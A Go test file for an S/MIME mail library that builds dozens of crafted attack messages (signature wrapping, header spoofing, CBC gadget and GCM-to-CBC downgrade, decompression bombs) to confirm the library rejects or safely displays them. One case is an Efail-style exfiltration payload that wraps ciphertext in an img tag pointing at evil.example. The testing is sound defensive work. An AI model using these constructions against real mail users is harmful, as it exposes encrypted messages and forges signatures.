package smime_test

import (
	"bytes"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/asn1"
	"errors"
	"fmt"
	"io"
	mathrand "math/rand/v2"
	"strings"
	"testing"

	"countersign/mailer/cms"
	"countersign/mailer/message"
	"countersign/mailer/smime"
)

// The letters that an attacker would like to change or to claim.
const (
	secret = "The code is quartz lantern.\n"
	lie    = "Please call me on this new number.\n"
)

// none is a Subject that is not there.
const none = "(none)"

// attack is a message of an attacker's making, and the most that may be said of it.
type attack struct {
	name     string
	wants    string // what the attacker would get if it worked
	raw      string
	layers   string // as layers draws it
	text     string // shown
	subject  string // shown; "" stands for the outer one
	signedBy string // whose valid signature covers the payload, "" for nobody's
	problem  error  // instead of a text
}

// attacks are after "Efail" (Poddebniak et al., 2018) and "Johnny, you are
// fired!" (Müller et al., 2019), and the mistakes found since. Eve has a
// certificate of her own, every message that Alice ever signed, and every
// ciphertext that Bob ever got.
func attacks() []attack {
	alice, bob, eve := people()["alice"], people()["bob"], people()["eve"]
	signed := clearSigned(alice, textPart(secret))
	sealed := encrypted(clearSigned(alice, textPart(secret)), bob)
	exfiltration := func(s string) string { return crlf("Content-Type: text/html\n\n" + s) }
	wrapper := crlf("Content-Type: message/rfc822\n\n")
	from := "From: alice@clinic.example\r\nSubject: inside\r\n"
	env, authenticated := envelope(textPart(secret), bob), gcm(textPart(secret), bob)
	return []attack{
		// Partly signed, partly encrypted.
		{"text before a signed part", "her words above Alice's signature", multipart("mixed", "m", textPart(lie), signed), "", lie, "", "", nil},
		{"signed part before a text", "her words below Alice's signature", multipart("mixed", "m", signed, textPart(lie)), "", secret, "", "", nil},
		{"signed part in related", "her page around Alice's signature", multipart("related", "m", exfiltration(lie), signed), "", lie, "", "", nil},
		{"signed part as an alternative", "her words instead of Alice's, under her signature", multipart("alternative", "m", textPart(lie), signed), "", lie, "", "", nil},
		{"a mailing list's footer", "her words taken for a list's footer, under Alice's signature", multipart("mixed", "m", signed, textPart("-- \nlist\n")), "", secret, "", "", nil},
		{"third part of multipart/signed", "a part more under the signature", strings.Replace(signed, "--\r\n", "\r\n"+textPart(lie)+"\r\n--sig--\r\n", 1), "signed(error)", secret, "", "", nil},
		{"signature first", "her words where the signature is sought, and the other way round", multipart(`signed; protocol="application/pkcs7-signature"`, "s", signaturePart(signature(alice, textPart(secret))), textPart(lie)), "signed(error)", lie, "", "", nil},
		{"only a signature", "a signature over nothing", multipart(`signed; protocol="application/pkcs7-signature"`, "s", signaturePart(signature(alice, textPart(secret)))), "signed(error)", "", "", "", nil},
		{"text before the signed part", "her words first, Alice's signed ones hidden behind", multipart(`signed; protocol="application/pkcs7-signature"`, "s", textPart(lie), textPart(secret), signaturePart(signature(alice, textPart(secret)))), "signed(error)", lie, "", "", nil},
		{"text in the preamble", "her words shown from before the first delimiter", strings.Replace(signed, "\r\n\r\n", "\r\n\r\n"+crlf(lie), 1), "signed(valid)", secret, "", "alice", nil},
		{"text in the epilogue", "her words shown from after the last delimiter", signed + crlf(lie), "signed(valid)", secret, "", "alice", nil},
		{"text after the signature's base64", "her words shown from behind the signature", strings.Replace(signed, "--\r\n", "--\r\n"+textPart(lie), 1), "signed(valid)", secret, "", "alice", nil},

		// The structure lies.
		{"inner boundary is the outer one", "two readings of where a part ends", multipart(`signed; protocol="application/pkcs7-signature"`, "s", "Content-Type: multipart/mixed; boundary=s\r\n\r\n", textPart(lie)), "signed(error)", lie, "", "", nil},
		{"two boundaries said", "two readings of what the delimiter is", strings.Replace(signed, "boundary=", "boundary=evil; boundary=", 1), "signed(error)", "", "", "", nil},
		{"two Content-Types", "two readings of what the message is", "Content-Type: text/plain\r\n" + signed, "", "", "", "", nil},
		{"the signature's type in another case", "a signature that is overlooked", strings.Replace(signed, "multipart/signed", "MULTIPART/Signed", 1), "signed(valid)", secret, "", "alice", nil},
		{"OpenPGP's protocol", "one kind of signature taken for another", strings.Replace(signed, "pkcs7-signature", "pgp-signature", 1), "", secret, "", "", nil},
		{"part of a digest", "a signature inside taken for the message's", "Content-Type: multipart/digest; boundary=d\r\n\r\n--d\r\n\r\n" + from + signed + "\r\n--d--\r\n", "", secret, "", "", nil},

		// Another content under a signature.
		{"changed text", "another text under Alice's signature", strings.Replace(signed, "quartz", "marble", 1), "signed(invalid)", strings.Replace(secret, "quartz", "marble", 1), "", "", nil},
		{"added header field", "another header under Alice's signature", strings.Replace(signed, "Content-Type: text/plain", "X-A: b\r\nContent-Type: text/plain", 1), "signed(invalid)", secret, "", "", nil},
		{"changed type of the signed part", "a text read as a page, under Alice's signature", strings.Replace(signed, "text/plain", "text/html", 1), "signed(invalid)", secret, "", "", nil},
		{"another's signature", "Alice's signature under her words", clearSignedWith(textPart(lie), signature(alice, textPart(secret))), "signed(invalid)", lie, "", "", nil},
		{"a signature that brings its own content", "one content verified, the other shown", clearSignedWith(textPart(lie), cmsOf(opaque(alice, textPart(secret)))), "signed(invalid)", lie, "", "", nil},
		{"Eve's own signature", "her signature taken for Alice's", clearSigned(eve, textPart(lie)), "signed(valid)", lie, "", "eve", nil},
		{"Eve's around Alice's", "Alice's letter with her name on it", clearSigned(eve, signed), "signed(valid) signed(valid)", secret, "", "alice", nil},
		{"Eve's forward of Alice's", "Alice's signature inside taken for the whole", clearSigned(eve, multipart("mixed", "m", textPart(lie), wrapper+from+signed)), "signed(valid)", lie, "", "eve", nil},
		{"Eve's around a wrapped message of Alice's", "a header of Alice's under her signature", clearSigned(eve, wrapper+from+textPart(lie)), "signed(valid)", lie, "inside", "eve", nil},
		{"Alice's forwarded as the whole message", "a message inside taken for the message", wrapper + from + signed, "", secret, "", "", nil},
		{"Alice's as an attachment with a name", "an attached signature taken for the message's", multipart("mixed", "m", textPart(lie), entity(`application/octet-stream; name=smime.p7m`, cmsOf(opaque(alice, textPart(secret))))), "", lie, "", "", nil},

		// Getting at the text of a ciphertext.
		{"direct exfiltration", "the ciphertext's text in the address of a picture", multipart("mixed", "m", exfiltration(`<img src="http://evil.example/`), encrypted(textPart(secret), bob), exfiltration(`">`)), "", `<img src="http://evil.example/`, "", "", nil},
		{"ciphertext beside text", "the text decrypted and quoted in an answer to her", multipart("mixed", "m", textPart(lie), sealed), "", lie, "", "", nil},
		{"ciphertext in a forwarded message", "the text decrypted and quoted in an answer to her", multipart("mixed", "m", textPart("what does this say?\n"), wrapper+from+sealed), "", "what does this say?\n", "", "", nil},
		{"ciphertext alone in a multipart", "the text decrypted with nothing to be seen of her", multipart("mixed", "m", sealed), "", "", "", "", nil},
		{"ciphertext as the forwarded message", "the text decrypted as if it were a forward", wrapper + from + sealed, "", "", "", "", nil},
		{"ciphertext under Eve's signature", "her signature over what she cannot read", clearSigned(eve, encrypted(textPart(secret), bob)), "signed(valid) encrypted", secret, "", "", nil},
		{"ciphertext under Eve's signature, beside text", "the text decrypted under her own signature", clearSigned(eve, multipart("mixed", "m", textPart(lie), encrypted(textPart(secret), bob))), "signed(valid)", lie, "", "eve", nil},
		{"ciphertext within Eve's envelope, beside text", "the text decrypted inside of another envelope", encrypted(multipart("mixed", "m", textPart(lie), sealed), bob), "encrypted", lie, "", "", nil},
		{"block of the ciphertext changed", "a text changed without the key (a CBC gadget)", entity("application/pkcs7-mime", flip(env, len(env)-40)), "encrypted", "", "", "", nil},
		{"envelope without a signature", "her words taken for a friend's because they are encrypted", encrypted(textPart(lie), bob), "encrypted", lie, "", "", nil},

		// The header lies.
		{"another From outside", "Alice's letter sent again as her own", signed, "signed(valid)", secret, "", "alice", nil},
		{"Subject of the signed part without protection", "a Subject shown that nobody protected", clearSigned(alice, "Subject: inside\r\n"+textPart(secret)), "signed(valid)", secret, "", "alice", nil},
		{"protection claimed without a layer", "a header that says itself that it is protected", "hp: clear\r\nHP-Outer: Subject: x\r\n" + textPartWith("; hp=cipher", lie), "", lie, "", "", nil},
		{"protection claimed around the layer", "the outer header taken for the protected one", strings.Replace(signed, "multipart/signed;", "multipart/signed; hp=clear;", 1), "signed(valid)", secret, "", "alice", nil},
		{"protection claimed around a broken layer", "the outer header taken for the protected one", strings.Replace(multipart(`signed; hp=clear; protocol="application/pkcs7-signature"`, "s", textPart(lie)), "Content-Type", from+"Content-Type", 1), "signed(error)", lie, "", "", nil},

		// Signatures that are none.
		{"zero signers", "certificates alone taken for a signature", opaqueOf(signedData(textPart(lie))), "signed()", lie, "", "", nil},
		{"zero signers, detached", "certificates alone taken for a signature", clearSignedWith(textPart(lie), signedData("")), "signed()", lie, "", "", nil},
		{"two signers, the last one bad", "a good signature to cover for a bad one", clearSignedWith(textPart(secret), twoSigners(alice, eve, textPart(secret))), "signed(valid,invalid)", secret, "", "", nil},
		{"two signers of another text", "two signatures to impress", clearSignedWith(textPart(lie), twoSigners(alice, bob, textPart(secret))), "signed(invalid,invalid)", lie, "", "", nil},
		{"signature over a part of the part", "a signature over the words counted for the header too", clearSignedWith(textPart(secret), signature(alice, crlf(secret))), "signed(invalid)", secret, "", "", nil},
		{"signature over another part", "a signature over what is not shown", clearSignedWith(multipart("mixed", "m", textPart(lie), textPart(secret)), signature(alice, textPart(secret))), "signed(invalid)", lie, "", "", nil},
		{"detached, with empty content inside", "the empty content verified, the other shown", clearSignedWith(textPart(lie), cmsOf(opaque(alice, ""))), "signed(invalid)", lie, "", "", nil},
		{"opaque without content", "a signature over what is somewhere else", opaqueOf(signature(alice, textPart(secret))), "signed(error)", "", "", "", smime.ErrNoContent},
		{"a time stamp as a message", "what a key signed for another purpose read as a letter", opaqueOf(retyped(cmsOf(opaque(alice, textPart(secret))))), "signed(error)", "", "", "", smime.ErrUnsupported},
		{"a receipt as a signature", "what a key signed for another purpose over a letter", clearSignedWith(textPart(secret), retyped(signature(alice, textPart(secret)))), "signed(error)", secret, "", "", nil},
		{"opaque, content beside it", "a signature over what is somewhere else", multipart("mixed", "m", textPart(lie), opaqueOf(signature(alice, textPart(lie)))), "", lie, "", "", nil},
		{"opaque, empty", "a signature over nothing", opaque(alice, ""), "signed(valid)", "", "", "alice", nil},
		{"text before the CMS", "her words before the base64", strings.Replace(opaque(alice, textPart(secret)), "\r\n\r\n", "\r\n\r\n*** "+lie+"\r\n", 1), "signed(error)", "", "", "", smime.ErrDamaged},

		// Things said twice.
		{"two Content-Types inside", "two readings of what was signed", clearSigned(alice, "Content-Type: text/html\r\n"+textPart(secret)), "signed(valid)", "", "", "alice", nil},
		{"two Subjects outside", "one Subject shown, the other believed", "Subject: second\r\n" + signed, "signed(valid)", secret, "", "alice", nil},
		{"two Subjects inside", "one Subject shown, the other believed", clearSigned(alice, "Subject: inside\r\nSubject: second\r\n"+textPartWith("; hp=clear", secret)), "signed(valid)", secret, "inside", "alice", nil},
		{"two transfer encodings", "two readings of the words", clearSigned(alice, "Content-Transfer-Encoding: 7bit\r\nContent-Transfer-Encoding: base64\r\n"+textPart(secret)), "signed(valid)", secret, "", "alice", nil},
		{"boundary said in two ways", "two readings of what the delimiter is", strings.Replace(signed, "boundary=", "boundary*=utf-8''evil; boundary=", 1), "signed(error)", "", "", "", nil},

		// Envelopes made of others.
		{"recipients of another envelope", "the text under a key that she knows", entity("application/pkcs7-mime", swapped(authenticated, gcm(textPart(lie), bob))), "encrypted(error)", "", "", "", smime.ErrDamaged},
		{"tag cut off", "an authenticated text without its proof", entity("application/pkcs7-mime", authenticated[:len(authenticated)-16]), "encrypted(error)", "", "", "", smime.ErrDamaged},
		{"tag changed", "another text under an authenticated envelope", entity("application/pkcs7-mime", flip(authenticated, len(authenticated)-3)), "encrypted(error)", "", "", "", smime.ErrDamaged},
		{"authenticated text changed", "another text under an authenticated envelope", entity("application/pkcs7-mime", flip(authenticated, len(authenticated)-40)), "encrypted(error)", "", "", "", smime.ErrDamaged},
		{"GCM passed off as CBC", "a malleable envelope out of an authenticated one", entity("application/pkcs7-mime", asCBC(authenticated)), "encrypted(error)", "", "", "", smime.ErrDamaged},
		{"cid: of an encrypted part", "the encrypted part as a picture in her page", multipart("related", "m", exfiltration(`<img src="cid:a@b">`), "Content-ID: <a@b>\r\n"+encrypted(textPart(secret), bob)), "", `<img src="cid:a@b">`, "", "", nil},
		{"a multipart torn over two envelopes", "one page made of her text and the decrypted one", multipart("mixed", "m", encrypted("Content-Type: multipart/mixed; boundary=t\r\n\r\n--t\r\n"+textPart(lie), bob), encrypted(textPart(secret)+"\r\n--t--", bob)), "", "", "", "", nil},
		{"ciphertext in a PEM block of a text", "text in the body decrypted", textPart("-----BEGIN PKCS7-----\r\n" + wrapped([]byte(env)) + "-----END PKCS7-----\r\n"), "", "", "", "", nil},
		{"ciphertext as a file with the name", "an attachment decrypted as if it were the message", multipart("mixed", "m", textPart(lie), entity("application/octet-stream; name=smime.p7m", env)), "", lie, "", "", nil},
		{"compressed twice", "a little message that becomes a huge one", entity("application/pkcs7-mime", compress(entity("application/pkcs7-mime", compress(textPart(lie))))), "compressed compressed(error)", "", "", "", smime.ErrLimit},
		{"an envelope in an envelope in an envelope", "work without end", nested(env, bob), "encrypted encrypted encrypted encrypted encrypted(error)", "", "", "", smime.ErrLimit},
		{"legacy display in a signed text", "words that are signed and not shown", clearSigned(alice, "Subject: inside\r\n"+textPartWith("; hp=clear; hp-legacy-display=1", "hidden\n\n"+secret)), "signed(valid)", "hidden\n\n" + secret, "inside", "alice", nil},
		{"a Direct wrapper that claims hp", "the header of a message inside, with protection said of it", clearSigned(eve, strings.Replace(wrapper, "rfc822", "rfc822; hp=clear", 1)+from+textPart(lie)), "signed(valid)", "", none, "eve", nil},
	}
}

// cmsOf is the CMS object in an entity.
func cmsOf(e string) string {
	p, err := message.Parse(message.Bytes(e), message.Limits{})
	must(err)
	r, err := p.Open()
	must(err)
	b := make([]byte, 1<<20)
	n, _ := r.Read(b)
	return string(b[:n])
}

func opaqueOf(der string) string {
	return entity("application/pkcs7-mime; smime-type=signed-data", der)
}

// signedData is SignedData that nobody signed; detached if the content is empty.
func signedData(content string) string {
	type info struct {
		Type    asn1.ObjectIdentifier
		Content []byte `asn1:"explicit,tag:0,optional,omitempty"`
	}
	type data struct {
		Version    int
		Algorithms []pkix.AlgorithmIdentifier `asn1:"set"`
		Info       info
		Signers    []asn1.RawValue `asn1:"set"`
	}
	pkcs7 := asn1.ObjectIdentifier{1, 2, 840, 113549, 1, 7}
	der, err := asn1.Marshal(struct {
		Type asn1.ObjectIdentifier
		Data data `asn1:"explicit,tag:0"`
	}{append(pkcs7[:6:6], 2), data{Version: 1, Info: info{append(pkcs7[:6:6], 1), []byte(content)}}})
	must(err)
	return string(der)
}

// twoSigners is a detached signature of two, the second of which is damaged.
func twoSigners(a, b *person, content string) string {
	d, err := cms.NewDetached([]cms.Signer{{Key: a.signKey, Certificate: a.sign}, {Key: b.signKey, Certificate: b.sign}}, cms.SignOptions{Time: day})
	must(err)
	_, err = io.WriteString(d, content)
	must(err)
	der, err := d.Finish()
	must(err)
	return flip(string(der), len(der)-1)
}

// gcm is AuthEnvelopedData.
func gcm(content string, to *person) string {
	var b bytes.Buffer
	w, err := cms.NewEnveloped(&b, []*x509.Certificate{to.encrypt}, cms.EncryptOptions{Cipher: cms.AES256GCM, Size: int64(len(content)), Rand: mathrand.NewChaCha8([32]byte{7})})
	must(err)
	_, err = io.WriteString(w, content)
	must(err)
	must(w.Close())
	return b.String()
}

// asCBC makes EnvelopedData with AES-256-CBC of AuthEnvelopedData with AES-256-GCM
// (RFC 9709, section 1). Its text is the key stream's, decrypted once more.
func asCBC(der string) string {
	type content struct {
		Type      asn1.ObjectIdentifier
		Algorithm struct {
			ID     asn1.ObjectIdentifier
			Params asn1.RawValue
		}
		Text asn1.RawValue
	}
	var was struct {
		Type asn1.ObjectIdentifier
		Data struct {
			Version    int
			Recipients asn1.RawValue
			Content    content
			Tag        []byte
		} `asn1:"explicit,tag:0"`
	}
	_, err := asn1.Unmarshal([]byte(der), &was)
	must(err)
	var gcm struct {
		Nonce  []byte
		TagLen int
	}
	_, err = asn1.Unmarshal(was.Data.Content.Algorithm.Params.FullBytes, &gcm)
	must(err)
	iv, err := asn1.Marshal(append(gcm.Nonce, 0, 0, 0, 2))
	must(err)
	inner := was.Data.Content
	inner.Algorithm.ID = asn1.ObjectIdentifier{2, 16, 840, 1, 101, 3, 4, 1, 42}
	inner.Algorithm.Params = asn1.RawValue{FullBytes: iv}
	text := inner.Text.Bytes[:len(inner.Text.Bytes)/16*16]
	inner.Text = asn1.RawValue{Class: asn1.ClassContextSpecific, Tag: 0, Bytes: text}
	out, err := asn1.Marshal(struct {
		Type asn1.ObjectIdentifier
		Data struct {
			Version    int
			Recipients asn1.RawValue
			Content    content
		} `asn1:"explicit,tag:0"`
	}{asn1.ObjectIdentifier{1, 2, 840, 113549, 1, 7, 3}, struct {
		Version    int
		Recipients asn1.RawValue
		Content    content
	}{0, asn1.RawValue{FullBytes: was.Data.Recipients.FullBytes}, inner}})
	must(err)
	return string(out)
}

// swapped is the first envelope's content under the second's recipients; both are of
// one length but for their contents.
func swapped(content, recipients string) string {
	const after = "\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x01" // the type of the content, once in an envelope
	i, j := strings.LastIndex(content, after), strings.LastIndex(recipients, after)
	return content[:i-256-4] + recipients[j-256-4:j] + content[i:]
}

func nested(env string, to *person) string {
	e := entity("application/pkcs7-mime", env)
	for range 6 {
		e = encrypted(e, to)
	}
	return e
}

// retyped says of SignedData that what is signed is something else than data.
func retyped(der string) string {
	const data = "\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07"
	return strings.Replace(der, data+"\x01", data+"\x05", 1)
}

func flip(s string, at int) string { return s[:at] + string([]byte{s[at] ^ 1}) + s[at+1:] }

func TestAttacks(t *testing.T) {
	all := attacks()
	if len(all) < 70 {
		t.Fatalf("%d attacks", len(all))
	}
	for n, a := range all {
		t.Run(fmt.Sprintf("%02d %s", n+1, a.name), func(t *testing.T) {
			if a.wants == "" {
				t.Error("it does not say what it is for")
			}
			from := "alice@clinic.example"
			if a.name == "another From outside" {
				from = "mallory@evil.example"
			}
			o := open(t, message.Bytes(outer(from, a.raw)), people()["bob"].opens())
			if !errors.Is(o.Problem, a.problem) {
				t.Fatal(o.Problem)
			}
			if got := layers(o); got != a.layers {
				t.Errorf("layers %q, want %q", got, a.layers)
			}
			if a.problem != nil {
				if o.Payload != nil {
					t.Error("it is shown all the same")
				}
				return
			}
			if got := shown(t, o); a.text != "" && got != a.text {
				t.Errorf("%q is shown, want %q", got, a.text)
			}
			subject := "outside"
			switch a.subject {
			case "":
			case none:
				subject = ""
			default:
				subject = a.subject
			}
			if got := o.Header.Get("Subject"); got != subject {
				t.Errorf("Subject %q, want %q", got, subject)
			}
			if got := signedBy(o); got != a.signedBy {
				t.Errorf("the payload is signed by %q, want %q", got, a.signedBy)
			}
			if len(o.Layers) == 0 && len(o.Protected) > 0 {
				t.Error("a header is protected by no layer")
			}
			// What lies in an errant layer is not decrypted for anybody.
			if !strings.Contains(a.layers, "encrypted") && strings.Contains(a.raw, "pkcs7-mime") && everything(t, o, secret) {
				t.Error("an errant envelope was opened")
			}
		})
	}
}

// signedBy is the signer of the innermost layer, if that is a signature and valid:
// the only one who speaks for the payload.
func signedBy(o *smime.Opened) string {
	if len(o.Layers) == 0 {
		return ""
	}
	l := o.Layers[len(o.Layers)-1]
	if l.Err != nil || l.Signed == nil || len(l.Signed.Signers) != 1 || l.Signed.Signers[0].Err != nil {
		return ""
	}
	name, _, _ := strings.Cut(l.Signed.Signers[0].Certificate.EmailAddresses[0], "@")
	return name
}

// everything tells whether any part of the payload has the words in it.
func everything(t *testing.T, o *smime.Opened, words string) bool {
	found := false
	_ = o.Payload.Walk(func(p *message.Part) error {
		s, err := p.Text(1 << 20)
		if err != nil {
			t.Fatal(err)
		}
		found = found || len(p.Parts) == 0 && strings.Contains(s, words)
		return nil
	})
	return found
}
